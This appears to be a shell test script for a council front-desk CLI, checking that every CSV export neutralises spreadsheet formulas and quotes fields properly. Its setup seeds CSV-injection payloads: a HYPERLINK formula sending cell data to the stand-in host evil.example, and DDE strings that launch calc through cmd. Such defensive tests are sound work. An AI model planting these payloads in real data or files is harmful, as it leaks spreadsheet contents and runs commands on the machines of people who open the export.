# Every CSV neutralises spreadsheet formulas (OWASP's rule) and quotes as
# RFC 4180 says: customer find, case list, the subject access export, a
# report's drill-down, and a report whose negative change stays a number.
setup
evil='=HYPERLINK("http://evil.example/?x="&A1,"click")'
id=$(frontdesk customer add --name "$evil" --address "+cmd|' /C calc'!A0" --postcode 'NG7 3AB')
FRONTDESK_NOW=2026-03-24T10:00:00Z frontdesk contact log --customer "$id" --service council-tax-moving \
	--outcome referred --reason '@SUM(1+1)*cmd|"/C calc"!A0' >/dev/null
FRONTDESK_NOW=2026-03-17T10:00:00Z frontdesk contact log --service council-tax-moving \
	--outcome referred --reason 'Joint liability' >/dev/null
FRONTDESK_NOW=2026-03-17T11:00:00Z frontdesk contact log --service council-tax-moving \
	--outcome referred --reason 'Joint liability' >/dev/null
fd customer find hyperlink --format csv
fd case list --format csv
note the subject access export, its personal lines
frontdesk customer export "$id" --format csv | grep -e '^customer,' -e 'reason' | filter
note the names behind a report row
fd report referrals --from 2026-03-23 --to 2026-03-29 --drill total --format csv
note a fall in referrals is a negative number, written as one
fd report referrals --from 2026-03-23 --to 2026-03-29 --format csv
note no cell of any of them starts with a formula character unquoted
{
	frontdesk customer find hyperlink --format csv
	frontdesk case list --format csv
	frontdesk customer export "$id" --format csv
	frontdesk report referrals --from 2026-03-23 --to 2026-03-29 --drill total --format csv
} | tr ',' '\n' | grep -c '^[=+@]' 
